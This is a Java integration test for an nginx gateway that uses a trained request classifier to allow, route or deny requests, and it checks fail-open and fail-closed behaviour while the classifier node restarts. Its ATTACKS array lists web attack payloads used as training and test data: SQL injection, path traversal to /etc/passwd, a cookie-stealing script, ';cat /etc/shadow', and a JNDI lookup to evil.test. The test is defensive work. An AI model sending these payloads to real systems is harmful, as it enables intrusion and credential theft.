package io.streamdistill.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import io.micrometer.prometheusmetrics.PrometheusConfig;
import io.micrometer.prometheusmetrics.PrometheusMeterRegistry;
import io.streamdistill.edge.EdgeConfig;
import io.streamdistill.edge.EdgeNode;
import io.streamdistill.edge.service.EdgeHttpServer;
import io.streamdistill.edge.service.GatewayPolicy;
import io.streamdistill.http.HttpResponse;
import io.streamdistill.http.HttpServer;
import io.streamdistill.schemas.SoftLabel;
import io.streamdistill.schemas.Topics;
import io.streamdistill.stack.LocalStack;
import io.streamdistill.stack.junit.LocalStackExtension;
import io.streamdistill.student.NgramFeaturizer;
import io.streamdistill.student.NgramSpec;
import io.streamdistill.student.RequestText;
import io.streamdistill.student.SigningKeys;
import io.streamdistill.student.StudentInput;
import io.streamdistill.trainer.MnistSoftLabels;
import io.streamdistill.trainer.TrainerConfig;
import io.streamdistill.trainer.stream.OnlineTrainer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.kafka.clients.admin.NewTopic;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The edge node in a real nginx's request path, with the README's configuration ({@code
 * compose/nginx/distill-gateway.conf}) as a user copies it: a request classifier trained by the real trainer from
 * soft labels of {@link RequestText}, served by an edge node that follows the models topic; nginx asks it about every
 * request ({@code auth_request}) and allows, routes or denies by the class. While the node restarts, the fail-open
 * nginx lets requests through and a fail-closed one (the same file with {@code return 403;}) refuses them; neither
 * answers an error.
 */
@Tag("integration")
@Timeout(value = 10, unit = TimeUnit.MINUTES)
@ExtendWith(LocalStackExtension.class)
class NginxGatewayIT {
  private static final List<String> CLASSES = List.of("benign", "attack");
  private static final String[] PAGES = {"products", "search", "cart", "account", "blog", "static/app.js", "help"};
  private static final String[] WORDS = {"shoes", "red", "winter", "coat", "garden", "lamp", "book", "phone"};
  private static final String[] ATTACKS = {"' OR '1'='1", "1 UNION SELECT password FROM users--",
      "../../../../etc/passwd", "<script>alert(document.cookie)</script>", ";cat /etc/shadow",
      "${jndi:ldap://evil.test/a}", "%27%20OR%201=1--", "..%2f..%2f..%2fetc%2fpasswd"};
  private static final HttpClient CLIENT = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

  /** What the application behind nginx saw: per path and query, the class and route headers. */
  private final Map<String, String> appSaw = new ConcurrentHashMap<>();

  @Test
  void nginxAllowsRoutesAndDeniesByTheStudentsClassAndKeepsServingThroughARestart(LocalStack stack,
      @org.junit.jupiter.api.io.TempDir Path dir) throws Exception {
    Path nginx = Path.of("/usr/sbin/nginx");
    assertTrue(Files.isExecutable(nginx), "this test runs Debian's nginx: apt-get install nginx (.ci/run does)");
    String suffix = UUID.randomUUID().toString().substring(0, 8);
    String soft = "gw-soft-" + suffix;
    String models = "gw-models-" + suffix;
    stack.createTopics(List.of(new NewTopic(soft, 1, (short) 1),
        new NewTopic(models, 1, (short) 1).configs(Topics.studentModelTopicConfig()),
        new NewTopic("gw-deployments-" + suffix, 1, (short) 1), new NewTopic("gw-input-" + suffix, 1, (short) 1),
        new NewTopic("gw-dlq-" + suffix, 1, (short) 1)));
    KeyPair keys = SigningKeys.generate();
    train(stack, keys, soft, models, "gw-dlq-" + suffix);

    EdgeConfig config = EdgeConfig.defaults("gw-edge", "gateway", List.of(keys.getPublic()))
        .withTopics(models, "gw-deployments-" + suffix, "gw-input-" + suffix)
        .withCascade(0, null, Duration.ofMillis(200))
        .withClientConfig(stack.clientConfig());
    GatewayPolicy policy = GatewayPolicy.parse(List.of("attack=deny", "benign=route:main"), "allow", List.of());
    try (HttpServer app = HttpServer.builder("app").routeUnder("", this::app).start()) {
      Edge edge = Edge.start(config, policy, 0);
      try {
        edge.awaitServing();
        int open = startNginx(nginx, dir.resolve("open"), edge.server.port(), app.port(), false);
        int closed = startNginx(nginx, dir.resolve("closed"), edge.server.port(), app.port(), true);

        // Every answer is the action of the class the student gives the request (deny 403; route: the app sees it).
        Random random = new Random(7);
        int right = 0;
        int requests = 120;
        for (int i = 0; i < requests; i++) {
          boolean attack = i % 3 == 0;
          String uri = uri(random, attack, 10_000 + i);
          String label = edge.node.predict(StudentInput.ofText(RequestText.of("GET", uri, List.of(), h -> null)))
              .label();
          right += label.equals(attack ? "attack" : "benign") ? 1 : 0;
          for (int port : new int[] {open, closed}) {
            appSaw.clear();
            int status = get(port, uri);
            if (label.equals("attack")) {
              assertEquals(403, status, uri + " is an attack to the student: nginx denies it");
              assertTrue(appSaw.isEmpty(), "a denied request never reaches the app: " + appSaw);
            } else {
              assertEquals(200, status, uri);
              assertEquals("benign main", appSaw.get(uri), uri);
            }
          }
        }
        assertTrue(right >= requests * 0.9, "the student is right on " + right + " of " + requests
            + " unseen requests");

        // The node restarts under traffic: fail open lets requests through unclassified, fail closed refuses them,
        // and neither answers anything else.
        AtomicBoolean stop = new AtomicBoolean();
        Map<Integer, AtomicInteger> openAnswers = new ConcurrentHashMap<>();
        Map<Integer, AtomicInteger> closedAnswers = new ConcurrentHashMap<>();
        Thread traffic = new Thread(() -> {
          Random r = new Random(11);
          for (int i = 0; !stop.get(); i++) {
            String uri = uri(r, false, 50_000 + i);
            try {
              openAnswers.computeIfAbsent(get(open, uri), s -> new AtomicInteger()).incrementAndGet();
              closedAnswers.computeIfAbsent(get(closed, uri), s -> new AtomicInteger()).incrementAndGet();
            } catch (IOException | InterruptedException e) {
              openAnswers.computeIfAbsent(-1, s -> new AtomicInteger()).incrementAndGet();
            }
          }
        }, "gw-traffic");
        traffic.start();
        Thread.sleep(500);
        int port = edge.server.port();
        edge.close();
        Thread.sleep(1_500);
        String benign = uri(random, false, 90_000);
        appSaw.clear();
        assertEquals(200, get(open, benign), "fail open while the node is down");
        assertEquals(" ", appSaw.get(benign), "passed unclassified");
        assertEquals(403, get(closed, benign), "fail closed while the node is down");
        edge = Edge.start(config, policy, port);
        edge.awaitServing();
        Thread.sleep(500);
        stop.set(true);
        traffic.join(30_000);
        assertEquals(Map.of(), without(openAnswers, 200), "fail open: only 200s through the restart");
        assertEquals(Map.of(), without(without(closedAnswers, 200), 403), "fail closed: only 200s and 403s");
        assertTrue(closedAnswers.containsKey(403) && closedAnswers.containsKey(200), closedAnswers.toString());

        String attack = uri(random, true, 99_999);
        assertEquals("attack", edge.node.predict(StudentInput.ofText(RequestText.of("GET", attack, List.of(),
            h -> null))).label(), attack);
        assertEquals(403, get(open, attack), "classified again after the restart");
        appSaw.clear();
        assertEquals(200, get(open, benign));
        assertEquals("benign main", appSaw.get(benign));
      } finally {
        edge.close();
        stopNginx(dir.resolve("open"));
        stopNginx(dir.resolve("closed"));
      }
    }
  }

  /** The edge node and its HTTP server, as `./distill edge` runs them. */
  private record Edge(EdgeNode node, EdgeHttpServer server) implements AutoCloseable {
    static Edge start(EdgeConfig config, GatewayPolicy policy, int port) throws IOException {
      PrometheusMeterRegistry metrics = new PrometheusMeterRegistry(PrometheusConfig.DEFAULT);
      EdgeNode node = EdgeNode.start(config, metrics);
      return new Edge(node, new EdgeHttpServer(node, new EdgeHttpServer.Settings(port, 8, 1 << 16, null, policy),
          metrics));
    }

    /** Until the node serves the trainer's version, which it reads from the models topic. */
    void awaitServing() throws InterruptedException {
      long deadline = System.nanoTime() + Duration.ofSeconds(60).toNanos();
      while (!node.status().serving() && System.nanoTime() < deadline) {
        Thread.sleep(50);
      }
      assertTrue(node.status().serving(), "the node serves the version from Kafka: " + node.notServingReason());
    }

    @Override
    public void close() {
      server.close();
      node.close();
    }
  }

  private HttpResponse app(io.streamdistill.http.HttpRequest request) {
    String key = request.rawPath() + (request.query() == null ? "" : "?" + request.query());
    String seen = String.valueOf(request.header("X-Distill-Class")).replace("null", "") + " "
        + String.valueOf(request.header("X-Distill-Route")).replace("null", "");
    appSaw.put(key, seen);
    return HttpResponse.json(200, "{\"app\":true}".getBytes(StandardCharsets.UTF_8));
  }

  private static <K, V> Map<K, V> without(Map<K, V> map, K key) {
    Map<K, V> rest = new java.util.HashMap<>(map);
    rest.remove(key);
    return rest;
  }

  /** A request URI: a page with a query, an attack's payload in it for {@code attack}. */
  private static String uri(Random random, boolean attack, int id) {
    String page = PAGES[random.nextInt(PAGES.length)];
    String value = attack ? ATTACKS[random.nextInt(ATTACKS.length)] : WORDS[random.nextInt(WORDS.length)] + "-"
        + WORDS[random.nextInt(WORDS.length)];
    String encoded = java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
    return "/" + page + "?q=" + encoded + "&id=" + id;
  }

  /** Soft labels of 3,000 request texts (a rule as the teacher), the real trainer, one published version. */
  private static void train(LocalStack stack, KeyPair keys, String soft, String models, String dead)
      throws Exception {
    Random random = new Random(3);
    List<SoftLabel> labels = new ArrayList<>();
    for (int i = 0; i < 3_000; i++) {
      boolean attack = random.nextInt(3) == 0;
      String text = RequestText.of(random.nextInt(4) == 0 ? "POST" : "GET", uri(random, attack, i), List.of(),
          h -> null);
      labels.add(RuleSoftLabels.of("req-" + i, "gateway", text, CLASSES, attack, 4f));
    }
    MnistSoftLabels.produce(stack, soft, labels);
    TrainerConfig config = TrainerConfig.builder("gateway",
            new NgramSpec(CLASSES, NgramFeaturizer.Settings.defaults(), 16), keys)
        .topics(soft, models, dead)
        .learningRate(0.01f)
        .batchSize(64)
        .publishEvery(labels.size(), Duration.ofHours(1))
        .build();
    AtomicInteger published = new AtomicInteger();
    OnlineTrainer trainer = new OnlineTrainer(config, stack.clientConfig(), new SimpleMeterRegistry(),
        version -> published.incrementAndGet());
    Thread thread = new Thread(trainer, "gw-trainer");
    thread.start();
    long deadline = System.nanoTime() + Duration.ofMinutes(3).toNanos();
    while (published.get() == 0 && thread.isAlive() && System.nanoTime() < deadline) {
      Thread.sleep(100);
    }
    trainer.close();
    thread.join(60_000);
    assertTrue(published.get() > 0, "the trainer published a version of the request classifier");
  }

  /** nginx with the README's file, its addresses replaced; {@code failClosed} as the file's comment says. */
  private static int startNginx(Path nginx, Path prefix, int edgePort, int appPort, boolean failClosed)
      throws Exception {
    Path repo = Path.of(System.getProperty("distill.repo.root", ".."));
    String site = Files.readString(repo.resolve("compose/nginx/distill-gateway.conf"));
    int port;
    try (java.net.ServerSocket free = new java.net.ServerSocket(0)) {
      port = free.getLocalPort();
    }
    site = replaceOnce(site, "server 127.0.0.1:8091;", "server 127.0.0.1:" + edgePort + ";");
    site = replaceOnce(site, "server 127.0.0.1:8080;", "server 127.0.0.1:" + appPort + ";");
    site = replaceOnce(site, "listen 8000;", "listen 127.0.0.1:" + port + ";");
    if (failClosed) {
      site = replaceOnce(site, "return 204;", "return 403;");
    }
    Files.createDirectories(prefix.resolve("temp"));
    prefix.resolve("temp").toFile().setWritable(true, false);
    Files.writeString(prefix.resolve("distill-gateway.conf"), site);
    Files.writeString(prefix.resolve("nginx.conf"), String.join("\n",
        "pid " + prefix.resolve("nginx.pid") + ";",
        "error_log " + prefix.resolve("error.log") + " warn;",
        "worker_processes 1;",
        "events { worker_connections 256; }",
        "http {",
        "  access_log off;",
        "  client_body_temp_path " + prefix.resolve("temp") + ";",
        "  proxy_temp_path " + prefix.resolve("temp") + ";",
        "  include " + prefix.resolve("distill-gateway.conf") + ";",
        "}", ""));
    Process process = new ProcessBuilder(nginx.toString(), "-p", prefix.toString(), "-c",
        prefix.resolve("nginx.conf").toString(), "-g", "daemon off;")
        .redirectErrorStream(true).redirectOutput(prefix.resolve("stdout.log").toFile()).start();
    long deadline = System.nanoTime() + Duration.ofSeconds(20).toNanos();
    while (System.nanoTime() < deadline) {
      if (!process.isAlive()) {
        throw new IllegalStateException("nginx exited " + process.exitValue() + ": "
            + Files.readString(prefix.resolve("stdout.log")) + read(prefix.resolve("error.log")));
      }
      try {
        new Socket(InetAddress.getLoopbackAddress(), port).close();
        return port;
      } catch (IOException notYet) {
        Thread.sleep(50);
      }
    }
    throw new IllegalStateException("nginx did not listen on " + port + " within 20 s");
  }

  private static void stopNginx(Path prefix) throws IOException, InterruptedException {
    Path pid = prefix.resolve("nginx.pid");
    if (Files.exists(pid)) {
      long id = Long.parseLong(Files.readString(pid).trim());
      ProcessHandle.of(id).ifPresent(ProcessHandle::destroy);
      ProcessHandle.of(id).ifPresent(p -> p.onExit().join());
    }
  }

  private static String read(Path file) throws IOException {
    return Files.exists(file) ? Files.readString(file) : "";
  }

  private static String replaceOnce(String text, String from, String to) {
    if (!text.contains(from)) {
      throw new IllegalStateException("the README's nginx file no longer has '" + from + "'");
    }
    return text.replace(from, to);
  }

  private static int get(int port, String uri) throws IOException, InterruptedException {
    return CLIENT.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + uri))
        .timeout(Duration.ofSeconds(10)).build(), java.net.http.HttpResponse.BodyHandlers.discarding()).statusCode();
  }
}
